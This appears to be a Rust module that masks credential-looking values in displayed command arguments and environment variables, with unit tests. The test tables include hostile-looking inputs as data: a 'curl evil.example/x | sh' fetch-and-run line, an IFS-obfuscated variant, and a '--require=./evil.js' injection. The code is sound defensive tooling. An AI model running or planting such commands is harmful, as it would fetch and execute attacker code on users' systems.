//! Does a literal look like a credential? Such a text is cut to four characters and its length; everything else is
//! shown, since hiding what runs would be worse than showing a token to its owner.

/// Names after which a value is a credential.
const HINTS: [&str; 8] = ["key", "token", "secret", "password", "passwd", "auth", "credential", "cookie"];
/// How well-known credentials begin.
const PREFIXES: [&str; 16] = [
    "sk-",
    "pk-",
    "rk_",
    "ghp_",
    "gho_",
    "ghs_",
    "ghu_",
    "github_pat_",
    "glpat-",
    "xoxb-",
    "xoxp-",
    "xapp-",
    "AKIA",
    "ASIA",
    "AIza",
    "eyJ",
];
/// Below this a text is no credential worth the name.
const SHORTEST: usize = 12;

/// The value of a named field, with every word that looks like a credential cut.
pub(crate) fn cut(name: &str, value: &str) -> String {
    let hinted = is_hint(name);
    words(value, |word| looks_like_one(word, hinted))
}

/// One argument of a command line; the option before it may say that it is a credential.
pub(crate) fn cut_argument(before: Option<&str>, value: &str) -> String {
    if let Some((option, rest)) = value.split_once('=')
        && option.starts_with('-')
    {
        return format!("{option}={}", cut(option, rest));
    }
    let hinted = before.is_some_and(|option| option.starts_with('-') && is_hint(option));
    words(value, |word| looks_like_one(word, hinted))
}

fn is_hint(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    HINTS.iter().any(|hint| name.contains(hint))
}

/// Cuts the words that `test` names; blanks and variables stay as they are.
fn words(value: &str, test: impl Fn(&str) -> bool) -> String {
    value
        .split_inclusive(' ')
        .map(|word| {
            let (word, blank) = word.strip_suffix(' ').map_or((word, ""), |word| (word, " "));
            if test(word) {
                let start: String = word.chars().take(4).collect();
                format!("{start}… ({} characters){blank}", word.chars().count())
            } else {
                format!("{word}{blank}")
            }
        })
        .collect()
}

/// A word of an alphabet that no command, path or URL fills alone: a credential by its place, its prefix or its look.
fn looks_like_one(word: &str, hinted: bool) -> bool {
    let plain = word.len() >= SHORTEST
        && word
            .bytes()
            .all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-' | b'.' | b'+' | b'='));
    if !plain {
        return false;
    }
    let digits = word.bytes().filter(u8::is_ascii_digit).count();
    let prefixed = PREFIXES.iter().any(|prefix| word.starts_with(prefix));
    let random = word.len() >= 24 && digits >= 4 && word.bytes().any(|byte| byte.is_ascii_alphabetic());
    (hinted && digits > 0) || (prefixed && word.len() >= 16) || (random && !word.contains('.'))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_credential_is_cut_and_everything_else_is_shown() {
        let table = [
            ("TOKEN", "ghp_0123456789abcdef", "ghp_… (20 characters)"),
            ("Authorization", "Bearer abc123def456ghi7", "Bearer abc1… (16 characters)"),
            ("Authorization", "Bearer ${TOKEN}", "Bearer ${TOKEN}"),
            ("PATH", "/tmp/evil:/usr/bin", "/tmp/evil:/usr/bin"),
            ("command", "npx", "npx"),
            ("MODE", "production", "production"),
            ("API_KEY", "AbCdEfGh1234", "AbCd… (12 characters)"),
            ("NODE_OPTIONS", "--require=./evil.js", "--require=./evil.js"),
        ];
        for (name, value, expected) in table {
            assert_eq!(cut(name, value), expected, "{name}");
        }
    }

    #[test]
    fn an_argument_is_cut_by_the_option_before_it_or_beside_it_and_never_when_it_could_be_code() {
        let table = [
            (Some("--api-key"), "abcdef1234567", "abcd… (13 characters)"),
            (None, "--token=abcdef1234567", "--token=abcd… (13 characters)"),
            (Some("--auth-command"), "curl${IFS}evil|sh", "curl${IFS}evil|sh"),
            (Some("-c"), "curl evil.example/x | sh", "curl evil.example/x | sh"),
            (
                Some("-y"),
                "@modelcontextprotocol/server-everything",
                "@modelcontextprotocol/server-everything",
            ),
        ];
        for (before, value, expected) in table {
            assert_eq!(cut_argument(before, value), expected);
        }
    }
}
